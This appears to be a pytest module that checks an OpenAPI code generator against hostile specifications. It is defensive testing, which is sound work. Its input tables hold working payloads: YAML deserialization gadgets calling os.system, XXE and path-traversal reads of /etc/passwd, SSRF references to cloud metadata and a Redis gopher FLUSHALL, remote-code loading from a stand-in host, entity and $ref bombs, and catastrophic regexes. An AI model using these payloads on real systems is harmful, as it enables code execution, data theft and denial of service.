"""Descriptions that are hostile as a whole: bombs, tricks of JSON and YAML, references that lead out, huge numbers."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

import pytest

from .guard import watched
from .places import answer, document, thing
from .run import generate

if TYPE_CHECKING:
    from collections.abc import Mapping
    from pathlib import Path

_BASE = json.dumps(document())
_YAML = 'openapi: 3.1.0\ninfo: {title: Example, version: "1"}\npaths: {}\n'


def _nested(depth: int) -> dict[str, Any]:
    schema: dict[str, Any] = {"type": "string"}
    for _ in range(depth):
        schema = {"type": "object", "properties": {"inner": schema}}
    return schema


def _doubled(keyword: str, levels: int) -> dict[str, Any]:
    """Each schema holds the next one twice: two to the power of the levels, if somebody multiplies it out."""
    schemas = {
        f"S{number}": {keyword: [{"$ref": f"#/components/schemas/S{number + 1}"}] * 2} for number in range(levels)
    }
    return document(schemas=schemas | {"Thing": {"$ref": "#/components/schemas/S0"}, f"S{levels}": thing()})


def _product(factors: int) -> dict[str, Any]:
    """Unions beside each other: each has three variants, and all hold at once."""
    parts = [{"oneOf": [thing(title=f"{number}{letter}") for letter in "abc"]} for number in range(factors)]
    return document(schemas={"Thing": {"allOf": parts}})


def _string(**schema: Any) -> dict[str, Any]:
    body = {"content": {"application/json": {"schema": {"$ref": "#/components/schemas/Thing"}}}}
    property_ = {"type": "string"} | schema
    return document({"requestBody": body}, schemas={"Thing": {"type": "object", "properties": {"name": property_}}})


_BOMB = "(a|a)*(a+)+(.*a){20}$"
_LONG = "a" * 40 + "!"

TEXTS: Mapping[str, str | bytes] = {
    "json.nothing": "",
    "json.blank": " \n\t",
    "json.null": "null",
    "json.array": "[]",
    "json.text": '"openapi"',
    "json.number": "1" * 5000,
    "json.nan": _BASE.replace('"1"', "NaN", 1),
    "json.infinity": _BASE.replace('"1"', "-Infinity", 1),
    "json.overflow": _BASE.replace('"1"', "1e999", 1),
    "json.integer": _BASE.replace('"1"', "9" * 10_000, 1),
    "json.duplicate": _BASE.replace('"paths"', '"paths": {}, "paths"', 1),
    "json.deep arrays": "[" * 100_000,
    "json.deep objects": '{"a":' * 100_000,
    "json.deep inside": _BASE.replace('"1"', "[" * 50_000 + "]" * 50_000, 1),
    "json.deep schemas": _BASE.replace('"1"', '{"properties": {"a": ' * 5000 + "1" + "}}" * 5000, 1),
    "json.comment": "// comment\n" + _BASE,
    "json.trailing": _BASE + _BASE,
    "json.prototype": _BASE.replace('"info"', '"__proto__": {"a": 1}, "__class__": {"b": 1}, "info"', 1),
    "json.surrogate": _BASE.replace("Example", "\\ud800"),
    "json.surrogate key": _BASE.replace('"info"', '"x-\\udfff": 1, "info"', 1),
    "json.nul": _BASE.replace("Example", "a\\u0000b"),
    "json.raw nul": _BASE.replace("Example", "a\x00b"),
    "bytes.latin": _BASE.replace("Example", "\xe9").encode("latin-1"),
    "bytes.utf16": _BASE.encode("utf-16"),
    "bytes.utf7": "+ACI-openapi+ACI-",
    "bytes.mark": b"\xef\xbb\xbf" + _BASE.encode(),
    "bytes.gzip": b"\x1f\x8b\x08\x00" + bytes(range(256)),
    "bytes.overlong": _BASE.encode().replace(b"Example", b"\xc0\xaf..\xc0\xaf"),
    "bytes.html": b"<!DOCTYPE html><html><head><title>Sign in</title></head></html>",
    "bytes.xml": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "yaml.object": _YAML + "x-a: !!python/object/apply:os.system ['touch owned']\n",
    "yaml.new": _YAML + "x-a: !!python/object/new:type {args: ['x', !!python/tuple [], {}]}\n",
    "yaml.name": _YAML + "x-a: !!python/name:os.system\n",
    "yaml.module": _YAML + "x-a: !!python/module:owned\n",
    "yaml.java": _YAML + 'x-a: !!javax.script.ScriptEngineManager [!!java.net.URL ["http://192.0.2.1/"]]\n',
    "yaml.include": _YAML + "x-a: !include /etc/passwd\n",
    "yaml.binary": _YAML + "x-a: !!binary AAAA\n",
    "yaml.set": _YAML + "x-a: !!set {a, b}\n",
    "yaml.tag": "%TAG ! tag:yaml.org,2002:python/\n---\n" + _YAML + "x-a: !name:os.system\n",
    "yaml.laughs": "a: &a [x, x, x, x, x, x, x, x, x]\n"
    + "".join(f"{b}: &{b} [{', '.join([f'*{a}'] * 9)}]\n" for a, b in zip("abcdefghi", "bcdefghij", strict=True))
    + _YAML,
    "yaml.quadratic": f"x-a: &a {'b' * 50_000}\nx-b: [{', '.join(['*a'] * 20_000)}]\n" + _YAML,
    "yaml.merge": "x-a: &a {b: 1}\n" + "".join(f"x-{n}: &m{n} {{<<: [*a, *a]}}\n" for n in range(2000)) + _YAML,
    "yaml.cycle": _YAML + "x-a: &a [*a]\n",
    "yaml.cycle of maps": _YAML + "x-a: &a {b: *a}\n",
    "yaml.unknown alias": _YAML + "x-a: *nobody\n",
    "yaml.deep": _YAML + "x-a: " + "[" * 50_000,
    "yaml.deep blocks": _YAML + "x-a:\n" + "".join(" " * n + "-\n" for n in range(1, 2000)),
    "yaml.deep keys": _YAML + "x-a: " + "? " * 20_000,
    "yaml.integer": _YAML + f"x-a: {'9' * 10_000}\n",
    "yaml.sexagesimal": _YAML + f"x-a: {'1:' * 5000}1\n",
    "yaml.underscores": _YAML + f"x-a: 1{'_0' * 20_000}\n",
    "yaml.float": _YAML + "x-a: 1e99999\nx-b: .inf\nx-c: .nan\n",
    "yaml.timestamp": _YAML + "x-a: 9999-99-99T99:99:99Z\n",
    "yaml.documents": _YAML + "---\n" + _YAML,
    "yaml.keys": _YAML + "? [a, b]\n: c\n",
    "yaml.null key": _YAML + "~: 1\n",
    "yaml.tabs": "openapi:\t3.1.0\n\tinfo: 1\n",
    "yaml.duplicate": _YAML + "paths: {}\n",
    "yaml.escapes": _YAML + 'x-a: "\\U00110000 \\xff \\N"\n',
    "yaml.nul": _YAML + "x-a: \x00\n",
    "yaml.merge key": _YAML + "<<: 1\n",
}

_REFERENCES = (
    "file:///etc/passwd",
    "/etc/passwd",
    "../../../../../../etc/passwd",
    "....//....//etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "http://192.0.2.1/x.json",
    "https://169.254.169.254/latest/meta-data/",
    "//192.0.2.1/x.json",
    "\\\\192.0.2.1\\share\\x.json",
    "ftp://192.0.2.1/x",
    "gopher://127.0.0.1:6379/_FLUSHALL",
    "data:application/json,{}",
    "jar:file:///x!/y",
    "C:\\Windows\\win.ini",
    "spec.json#/../../x",
    "#/components/schemas/../../info",
    "#/components/schemas/Thing/properties/__class__",
    "#/paths/~1things/get/responses",
    "#/info/title",
    "#",
    "#/",
    "#%00",
    "con",
    "/dev/stdin",
    "/dev/zero",
    "/proc/self/environ",
    "a" * 10_000,
    "#" + "/a" * 10_000,
)

DOCUMENTS: Mapping[str, dict[str, Any]] = {
    **{f"reference.schema {text[:40]}": document(schemas={"Thing": {"$ref": text}}) for text in _REFERENCES},
    **{
        f"reference.parameter {text[:40]}": document({"parameters": [{"$ref": text}]})
        for text in (_REFERENCES[0], _REFERENCES[2], _REFERENCES[5], _REFERENCES[19])
    },
    **{
        f"reference.path {text[:40]}": document() | {"paths": {"/things": {"$ref": text}}}
        for text in (_REFERENCES[0], _REFERENCES[2], _REFERENCES[5], _REFERENCES[19])
    },
    "reference.dynamic": document(schemas={"Thing": {"$dynamicRef": "http://192.0.2.1/x"}}),
    "reference.id": document(schemas={"Thing": thing(**{"$id": "http://192.0.2.1/", "$schema": "http://192.0.2.1/s"})}),
    "reference.dialect": document(jsonSchemaDialect="http://192.0.2.1/dialect"),
    "reference.example": document(
        {
            "responses": {
                "200": {
                    "description": "",
                    "content": {"application/json": {"examples": {"a": {"externalValue": "file:///etc/passwd"}}}},
                }
            }
        }
    ),
    "reference.link": document(
        {"responses": answer(thing(), links={"next": {"operationRef": "http://192.0.2.1/x.json#/paths"}})}
    ),
    "reference.mapping": document(
        schemas={
            "Thing": {
                "oneOf": [{"$ref": "#/components/schemas/Cat"}],
                "discriminator": {
                    "propertyName": "kind",
                    "mapping": {"x": "file:///etc/passwd", "y": "http://192.0.2.1/"},
                },
            },
            "Cat": thing(),
        }
    ),
    "reference.to itself": document(schemas={"Thing": {"$ref": "#/components/schemas/Thing"}}),
    "reference.circle": document(
        schemas={f"S{n}": {"$ref": f"#/components/schemas/S{(n + 1) % 50}"} for n in range(50)}
        | {"Thing": {"$ref": "#/components/schemas/S0"}}
    ),
    "reference.circle of parameters": document(
        {"parameters": [{"$ref": "#/components/parameters/a"}]},
        components={
            "parameters": {"a": {"$ref": "#/components/parameters/b"}, "b": {"$ref": "#/components/parameters/a"}}
        },
    ),
    "reference.circle of responses": document(
        {"responses": {"200": {"$ref": "#/components/responses/a"}}},
        components={"responses": {"a": {"$ref": "#/components/responses/a"}}},
    ),
    "reference.circle of path items": document() | {"paths": {"/a": {"$ref": "#/paths/~1a"}}},
    "reference.chain": document(
        schemas={f"S{n}": {"$ref": f"#/components/schemas/S{n + 1}"} for n in range(400)}
        | {"S400": thing(), "Thing": {"$ref": "#/components/schemas/S0"}}
    ),
    "bomb.allOf": _doubled("allOf", 24),
    "bomb.oneOf": _doubled("oneOf", 24),
    "bomb.anyOf": _doubled("anyOf", 24),
    "bomb.product": _product(12),
    "bomb.deep properties": document(schemas={"Thing": _nested(40)}),
    "bomb.allOf in itself": document(schemas={"Thing": {"allOf": [{"$ref": "#/components/schemas/Thing"}, thing()]}}),
    "bomb.union in itself": document(schemas={"Thing": {"anyOf": [{"$ref": "#/components/schemas/Thing"}, thing()]}}),
    "bomb.not in itself": document(schemas={"Thing": {"not": {"$ref": "#/components/schemas/Thing"}}}),
    "bomb.items in itself": document(
        schemas={"Thing": {"type": "array", "items": {"$ref": "#/components/schemas/Thing"}}}
    ),
    "bomb.map in itself": document(
        schemas={"Thing": {"type": "object", "additionalProperties": {"$ref": "#/components/schemas/Thing"}}}
    ),
    "bomb.required": document(schemas={"Thing": thing(required=[f"n{n}" for n in range(20_000)])}),
    "bomb.enum": document(schemas={"Thing": {"type": "string", "enum": [f"v{n}" for n in range(3000)]}}),
    "bomb.tags": document({"tags": [f"t{n}" for n in range(5000)]}),
    "bomb.long name": document(schemas={"Thing": {"type": "object", "properties": {"a" * 50_000: {"type": "string"}}}}),
    "bomb.long schema": document(
        {"responses": answer({"$ref": "#/components/schemas/" + "a" * 20_000})}, schemas={"a" * 20_000: thing()}
    ),
    "bomb.long tag": document({"tags": ["tag " * 5000]}),
    "bomb.long underscores": document(schemas={"_" * 20_000: thing(), "Thing": thing()}),
    "bomb.long path": document(path="/things" * 2000),
    "bomb.long version": document(path=f"/v{'1' * 5000}/things"),
    "bomb.long description": document({"description": '"""' * 100_000 + "\\" * 100_000}),
    "bomb.long spaces": document({"tags": ["a" + " " * 50_000 + "b"], "summary": " " * 200_000 + "x"}),
    "bomb.capitals": document({"tags": ["A" * 50_000 + "a"]}),
    "pattern.bomb in a default": _string(pattern=_BOMB, default=_LONG),
    "pattern.bomb in an example": _string(pattern=_BOMB, example=_LONG, examples=[_LONG]),
    "pattern.bomb in an enum": _string(pattern=_BOMB, enum=[_LONG]),
    "pattern.bomb in a const": _string(pattern=_BOMB, const=_LONG),
    "pattern.bomb of properties": document(schemas={"Thing": thing(patternProperties={_BOMB: {}}, default={_LONG: 1})}),
    "pattern.bomb of names": document(schemas={"Thing": thing(propertyNames={"pattern": _BOMB}, default={_LONG: 1})}),
    "pattern.bomb of a parameter": document(
        {
            "parameters": [
                {
                    "name": "a",
                    "in": "query",
                    "schema": {"type": "string", "pattern": _BOMB, "default": _LONG},
                    "example": _LONG,
                }
            ]
        }
    ),
    "pattern.huge repetition": _string(pattern="(((a{1,1000}){1,1000}){1,1000}){1,1000}", default="a"),
    "pattern.code": _string(pattern="(?{system('touch owned')})(?P<__class__>x)(?#{{7*7}})"),
    "pattern.broken": _string(pattern="(((("),
    "pattern.deep": _string(pattern="(" * 3000 + ")" * 3000),
    "number.multipleOf": _string(type="number", multipleOf=1e-320, default=1e308),
    "number.bounds": _string(type="integer", minimum=-(10**400), maximum=10**400),
    "number.length": _string(minLength=10**30, maxLength=10**40),
    "number.enum": document(schemas={"Thing": {"type": "integer", "enum": [10**400, -(10**400)]}}),
    "number.default": _string(type="integer", default=10**1000),
    "number.const": _string(type="integer", const=10**1000),
    "number.items": document(schemas={"Thing": {"type": "array", "items": {}, "minItems": 10**18, "default": []}}),
    "number.status": document({"responses": {"9" * 400: {"description": ""}}}),
    "kind.text for object": document() | {"paths": "../../etc/passwd"},
    "kind.object for text": document(info={"title": {"$ref": "file:///etc/passwd"}}),
    "kind.list for text": document({"operationId": ["a", "b"]}),
    "kind.number for name": document({"parameters": [{"name": 1, "in": "query"}]}),
    "kind.override": document({"x-method-name": {"a": 1}}),
    "kind.override list": document(schemas={"Thing": thing(**{"x-class-name": ["os", "system"]})}),
    "kind.enum": document(schemas={"Thing": {"type": "string", "enum": [{"a": [1]}, None, True, 1.5, "x", "x"]}}),
    "kind.const": document(schemas={"Thing": thing(properties={"a": {"const": {"__class__": "os"}}})}),
    "kind.default": document(schemas={"Thing": thing(properties={"a": {"type": "string", "default": ["__import__"]}})}),
    "kind.booleans": document(schemas={"Thing": {"type": True, "properties": [], "required": {}, "items": 1}}),
    "kind.openapi": document() | {"openapi": {"$ref": "#"}},
    "kind.version": document() | {"openapi": "3.1.0\nimport os"},
    "kind.swagger": {"swagger": "2.0", "info": {"title": "x", "version": "1"}, "paths": {}},
}


@pytest.mark.parametrize("name", TEXTS)
def test_a_text_is_refused_or_harmless(name: str, tmp_path: Path) -> None:
    ending = "yaml" if name.startswith("yaml") else "json"
    with watched(tmp_path) as touched:
        made = generate(TEXTS[name], tmp_path, f"spec.{ending}")
    assert touched == []
    assert made.is_told()


@pytest.mark.parametrize("name", DOCUMENTS)
def test_a_document_is_refused_or_harmless(name: str, tmp_path: Path) -> None:
    with watched(tmp_path) as touched:
        made = generate(json.dumps(DOCUMENTS[name]), tmp_path)
    assert touched == []
    assert made.is_told()
    for path, text in made.files.items():
        if path.endswith(".py"):
            compile(text, path, "exec", dont_inherit=True)
